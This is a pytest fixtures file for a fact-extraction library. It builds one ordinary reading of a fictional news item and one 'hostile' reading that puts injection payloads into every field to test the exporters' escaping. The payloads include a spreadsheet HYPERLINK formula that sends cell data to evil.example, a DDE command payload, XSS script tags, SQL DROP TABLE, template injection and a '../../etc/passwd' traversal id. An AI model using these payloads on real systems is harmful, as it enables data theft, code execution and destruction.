"""Two readings that every format is tried on: an ordinary one with emoji, and one that is hostile in every field."""

import json
from datetime import date
from pathlib import Path
from typing import Literal

import pytest
from pydantic import Field
from pyld import jsonld

import factx
from factx import Actor, Amount, Attribution, Change, Claim, Date, Document, Facts, Figure, Gap, Rejection, Span, Stance
from factx.facts import PromptUse, Run

TEXT = """🚢 Velmouth raises the harbour toll
The mayor, Ada Corrin 🎉, said on Monday that the toll will rise by 12 per cent next year.
“We will not close the harbour,” she told Radio Velm, “not now,
whatever the union says.”
The fishermen's union 😀 opposes the plan. Ada Corrin met the union in person.
"""

ATTACKS = (
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1)",
    "</script><script>alert(1)</script><img src=x onerror=alert(1)>",
    "'; DROP TABLE facts; --",
    "[[Private|x]] ![[note]] #tag %%hidden%% `= this.file` $x$ ==y== ^block [a](javascript:alert(1))",
    '"> ; a prov:Agent . <urn:x> \\u0022 """ ^^xsd:date @en',
    "{{7*7}} {% raw %} <% tp.file %> ]]> &amp;",
    "\x00\x1b[31m\u202e\u2066\ufeff",
    "T1\tclaim 0 5\tx",
    "\t=2+2",
    "- item",
    "1. first",
    "---",
)


class Visit(factx.Fact):
    """A meeting."""

    guests: tuple[Span, ...] = Field(description="Who met.")
    host: Actor | None = None
    day: Date | None
    medium: Literal["call", "in person"]
    note: str | None = None


def words(document: Document, text: str, *, nth: int = 0) -> Span:
    """Where words stand, the first time or a later one."""
    start = -1
    for _ in range(nth + 1):
        start = document.text.index(text, start + 1)
    return document.span(start, start + len(text))


@pytest.fixture
def kinds():
    return (Visit,)


@pytest.fixture
def reading():
    document = Document(
        TEXT, title="Velmouth: the toll", published=date(2024, 5, 15), url="https://velm.example/toll?a=1&b=2"
    )

    def at(text, nth=0):
        return words(document, text, nth=nth)

    mayor = Actor(words=at("Ada Corrin"))
    said = Attribution(source=mayor, cue=at("said"), said=Date.read(at("on Monday"), document))
    told = Attribution(source=Actor(words=at("she"), name=at("Ada Corrin")), cue=at("told"), manner="direct")
    about = {"document": document.id, "published": document.published}
    amount = Amount.read(at("12 per cent"), document)
    items = (
        Figure(
            **about,
            evidence=(at("the toll will rise by 12 per cent next year"),),
            manner="indirect",
            attribution=(said,),
            amount=amount,
            measure=at("the toll"),
            period=Date.read(at("next year"), document),
            status="forecast",
            change=Change.read(at("rise by"), document, amount=amount.span),
        ),
        Claim(
            **about,
            evidence=(at("We will not close the harbour"), at("not now,\nwhatever the union says")),
            match="folded",
            manner="direct",
            attribution=(Attribution(source=Actor(words=at("Radio Velm"))), told),
            statement="Velmouth will not close the harbour, whatever the union says.",
            force="commitment",
            negated=True,
            certainty="unknown",
        ),
        Stance(
            **about,
            evidence=(at("The fishermen's union 😀 opposes the plan"),),
            holder=Actor(words=at("The fishermen's union")),
            target=Actor(words=at("the plan")),
            target_type="proposal",
            polarity="oppose",
            strength="moderate",
            shows="said",
        ),
        Visit(
            **about,
            evidence=(at("Ada Corrin met the union in person"),),
            guests=(at("Ada Corrin", 1), at("the union", 1)),
            day=None,
            medium="in person",
            note="so it says",
        ),
    )
    return Facts(document=document, items=items, rejected=(), gaps=(), run=_run("claim", "figure", "stance", "visit"))


@pytest.fixture
def hostile():
    """Every text of the document and of its facts is an attack; so are its title, its id and its address."""
    lines = [f"{attack} says {attack}" for attack in ATTACKS]
    document = Document(
        "\r\n".join([*lines, "\ud83d alone"]),
        id="../../etc/passwd",
        title="; ".join(ATTACKS),
        url="javascript:alert(1)//" + ATTACKS[3],
    )
    items = []
    for attack, line in zip(ATTACKS, lines, strict=True):
        where = document.text.index(line)
        source = Actor(words=document.span(where, where + len(attack)))
        evidence = (document.span(where, where + len(line)),)
        common = {"document": document.id, "evidence": evidence, "attribution": (Attribution(source=source),)}
        items.append(Claim(**common, statement=attack, force="assertion", negated=False, certainty="unknown"))
        how = {"target_type": "idea", "polarity": "mixed", "strength": "weak", "shows": "imputed"}
        items.append(Stance(**common, holder=source, target=source, **how))
    gap = Gap(document=document.id, first=1, last=2, reason="refused", detail=ATTACKS[3])
    rejection = Rejection(
        document=document.id, of="claim", reason="invalid", detail=ATTACKS[4], draft={"statement": ATTACKS[0]}
    )
    return Facts(
        document=document, items=tuple(items), rejected=(rejection,), gaps=(gap,), run=_run("claim", model=ATTACKS[6])
    )


def _run(*kinds, model=None):
    prompts = (PromptUse(name="read", version="1", fingerprint="0123456789ab"),)
    return Run(factx="0.1.0", engine="rules", model=model, prompts=prompts, kinds=kinds)


@pytest.fixture
def attacks():
    return ATTACKS


@pytest.fixture
def expanded():
    """Expands a JSON-LD text as a processor does, with contexts from beside the tests, and refuses what is lost."""
    known = json.loads((Path(__file__).parents[1] / "data" / "contexts.json").read_text(encoding="utf-8"))

    def load(url, _options):
        return {"contentType": "application/ld+json", "contextUrl": None, "documentUrl": url, "document": known[url]}

    def expand(text):
        lost = []
        found = jsonld.expand(json.loads(text), {"documentLoader": load}, on_property_dropped=lost.append)
        assert lost == []
        return found

    return expand


@pytest.fixture
def schemas():
    """What the documentation of an annotation tool says of its files, as JSON schemas."""
    return json.loads((Path(__file__).parents[1] / "data" / "annotation_schemas.json").read_text(encoding="utf-8"))


@pytest.fixture
def emended(reading):
    """The reading as it is when all of its marks were made by hand: read anew, with nothing known but marks."""
    return tuple(each.model_copy(update={"match": "exact"}) for each in reading.items)
